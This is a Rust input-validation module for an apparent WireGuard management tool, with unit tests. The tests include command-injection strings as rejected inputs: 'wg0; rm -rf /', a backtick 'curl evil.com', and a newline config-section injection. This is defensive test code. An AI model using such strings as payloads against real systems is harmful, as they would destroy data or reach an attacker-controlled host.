//! Input validation and sanitization
//!
//! Everything here runs before a transport is touched, so a malformed desired
//! configuration never reaches `wg`, netlink or a remote router.

use crate::error::{WgctlError, WgctlResult};
use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;
use ipnet::IpNet;
use std::net::IpAddr;

/// Maximum length for interface names (Linux kernel limit is 15)
const MAX_INTERFACE_NAME_LEN: usize = 15;

/// Maximum length for free-form values written into config documents
const MAX_CONFIG_VALUE_LEN: usize = 255;

/// Maximum length for command output carried in errors
const MAX_ERROR_MESSAGE_LEN: usize = 500;

/// WireGuard keys are 32 raw bytes
pub const KEY_LEN: usize = 32;

/// Validate interface name to prevent command injection
///
/// Interface names must be alphanumeric with optional dashes and underscores,
/// and no longer than 15 characters (Linux kernel limit)
pub fn validate_interface_name(name: &str) -> WgctlResult<()> {
    if name.is_empty() {
        return Err(WgctlError::Validation(
            "interface name cannot be empty".to_string(),
        ));
    }

    if name.len() > MAX_INTERFACE_NAME_LEN {
        return Err(WgctlError::Validation(format!(
            "interface name too long (max {} characters)",
            MAX_INTERFACE_NAME_LEN
        )));
    }

    // Only allow alphanumeric, dash, underscore
    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' {
            return Err(WgctlError::Validation(format!(
                "invalid interface name '{}': contains invalid character '{}'",
                name, c
            )));
        }
    }

    // Don't allow names starting with dash (could be interpreted as option)
    if name.starts_with('-') {
        return Err(WgctlError::Validation(
            "interface name cannot start with dash".to_string(),
        ));
    }

    Ok(())
}

/// Parse a CIDR and return its masked (network) form, e.g. `10.0.0.1/24` -> `10.0.0.0/24`
///
/// A bare address is accepted as a host route (/32 or /128).
pub fn normalize_cidr(value: &str) -> WgctlResult<String> {
    let value = value.trim();
    if value.is_empty() {
        return Err(WgctlError::Validation("empty CIDR".to_string()));
    }

    if let Ok(net) = value.parse::<IpNet>() {
        return Ok(net.trunc().to_string());
    }

    let addr = value
        .split('%')
        .next()
        .unwrap_or(value)
        .parse::<IpAddr>()
        .map_err(|_| WgctlError::Validation(format!("invalid CIDR: {}", value)))?;
    Ok(IpNet::from(addr).to_string())
}

/// Parse a CIDR keeping the host bits, e.g. `10.0.0.1/24` stays `10.0.0.1/24`
pub fn parse_interface_address(value: &str) -> WgctlResult<IpNet> {
    value
        .trim()
        .parse::<IpNet>()
        .map_err(|_| WgctlError::Validation(format!("invalid interface address: {}", value)))
}

/// Validate MTU value; 0 means "leave the transport default"
pub fn validate_mtu(mtu: u32) -> WgctlResult<()> {
    if mtu == 0 {
        return Ok(());
    }
    // Minimum IPv4 MTU is 68, jumbo frames top out around 9000
    if mtu < 68 {
        return Err(WgctlError::Validation(
            "MTU must be at least 68 bytes".to_string(),
        ));
    }
    if mtu > 9000 {
        return Err(WgctlError::Validation(
            "MTU cannot exceed 9000 bytes".to_string(),
        ));
    }
    Ok(())
}

/// Decode a base64 WireGuard key into its 32 raw bytes
pub fn decode_key(key: &str) -> WgctlResult<[u8; KEY_LEN]> {
    let bytes = BASE64
        .decode(key.trim())
        .map_err(|_| WgctlError::Validation("key is not valid base64".to_string()))?;
    bytes
        .try_into()
        .map_err(|_| WgctlError::Validation(format!("key must be {} bytes", KEY_LEN)))
}

/// Validate a base64 WireGuard key
pub fn validate_key(key: &str) -> WgctlResult<()> {
    decode_key(key).map(|_| ())
}

/// Validate a `host:port` endpoint; IPv6 hosts must be bracketed
pub fn validate_endpoint(endpoint: &str) -> WgctlResult<()> {
    let (host, port) = endpoint
        .rsplit_once(':')
        .ok_or_else(|| WgctlError::Validation(format!("endpoint {} has no port", endpoint)))?;

    port.parse::<u16>()
        .map_err(|_| WgctlError::Validation(format!("invalid endpoint port: {}", port)))?;

    let host = host.trim_start_matches('[').trim_end_matches(']');
    if host.is_empty() {
        return Err(WgctlError::Validation(format!(
            "endpoint {} has no host",
            endpoint
        )));
    }
    if host.parse::<IpAddr>().is_ok() {
        return Ok(());
    }
    validate_hostname(host)
}

/// Validate hostname for endpoints and router URLs
pub fn validate_hostname(host: &str) -> WgctlResult<()> {
    if host.is_empty() {
        return Err(WgctlError::Validation("hostname cannot be empty".to_string()));
    }

    if host.len() > 253 {
        return Err(WgctlError::Validation("hostname too long".to_string()));
    }

    if host.parse::<IpAddr>().is_ok() {
        return Ok(());
    }

    for c in host.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '.' {
            return Err(WgctlError::Validation(format!(
                "invalid hostname character: {}",
                c
            )));
        }
    }

    if host.starts_with('-') || host.starts_with('.') || host.ends_with('-') || host.ends_with('.') {
        return Err(WgctlError::Validation("invalid hostname format".to_string()));
    }

    Ok(())
}

/// Sanitize values written verbatim into config documents
///
/// Rejects newlines and other control characters that would let a value
/// start a new key or section.
pub fn sanitize_config_value(value: &str) -> WgctlResult<String> {
    if value.chars().any(|c| c.is_control() && c != '\t') {
        return Err(WgctlError::Validation(
            "configuration value contains invalid control characters".to_string(),
        ));
    }

    if value.len() > MAX_CONFIG_VALUE_LEN {
        return Err(WgctlError::Validation(format!(
            "configuration value too long (max {} characters)",
            MAX_CONFIG_VALUE_LEN
        )));
    }

    Ok(value.to_string())
}

/// Trim command output carried in error messages
pub fn sanitize_error_message(output: &str) -> String {
    let mut sanitized = output.trim().to_string();

    if sanitized.len() > MAX_ERROR_MESSAGE_LEN {
        let mut cut = MAX_ERROR_MESSAGE_LEN;
        while !sanitized.is_char_boundary(cut) {
            cut -= 1;
        }
        sanitized.truncate(cut);
        sanitized.push_str("... (truncated)");
    }

    sanitized
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_interface_name_validation() {
        assert!(validate_interface_name("wg0").is_ok());
        assert!(validate_interface_name("wg-office").is_ok());
        assert!(validate_interface_name("wg_test").is_ok());

        // Command injection attempts
        assert!(validate_interface_name("wg0; rm -rf /").is_err());
        assert!(validate_interface_name("wg0`curl evil.com`").is_err());
        assert!(validate_interface_name("wg0\nmalicious").is_err());

        assert!(validate_interface_name("verylonginterfacename").is_err());
        assert!(validate_interface_name("-wg0").is_err());
        assert!(validate_interface_name("").is_err());
    }

    #[test]
    fn test_normalize_cidr() {
        assert_eq!(normalize_cidr("10.0.0.1/24").unwrap(), "10.0.0.0/24");
        assert_eq!(normalize_cidr(" 10.0.0.2/32 ").unwrap(), "10.0.0.2/32");
        assert_eq!(normalize_cidr("fd00::2/64").unwrap(), "fd00::/64");
        assert_eq!(normalize_cidr("10.0.0.7").unwrap(), "10.0.0.7/32");
        assert_eq!(normalize_cidr("fe80::1%wg0").unwrap(), "fe80::1/128");
        assert!(normalize_cidr("not-a-cidr").is_err());
        assert!(normalize_cidr("").is_err());
    }

    #[test]
    fn test_mtu_validation() {
        assert!(validate_mtu(0).is_ok());
        assert!(validate_mtu(1420).is_ok());
        assert!(validate_mtu(67).is_err());
        assert!(validate_mtu(9001).is_err());
    }

    #[test]
    fn test_key_validation() {
        let key = BASE64.encode([7u8; 32]);
        assert_eq!(decode_key(&key).unwrap(), [7u8; 32]);
        assert!(validate_key("short").is_err());
        assert!(validate_key(&BASE64.encode([1u8; 16])).is_err());
    }

    #[test]
    fn test_endpoint_validation() {
        assert!(validate_endpoint("203.0.113.10:51820").is_ok());
        assert!(validate_endpoint("[2001:db8::1]:51820").is_ok());
        assert!(validate_endpoint("vpn.example.com:443").is_ok());
        assert!(validate_endpoint("vpn.example.com").is_err());
        assert!(validate_endpoint(":51820").is_err());
        assert!(validate_endpoint("host:notaport").is_err());
    }

    #[test]
    fn test_sanitize_config_value() {
        assert_eq!(sanitize_config_value("office vpn").unwrap(), "office vpn");
        assert!(sanitize_config_value("line\n[Peer]").is_err());
        assert!(sanitize_config_value(&"a".repeat(300)).is_err());
    }

    #[test]
    fn test_sanitize_error_message() {
        let long = "x".repeat(600);
        let sanitized = sanitize_error_message(&long);
        assert!(sanitized.ends_with("... (truncated)"));
        assert_eq!(sanitize_error_message("  oops \n"), "oops");
    }
}
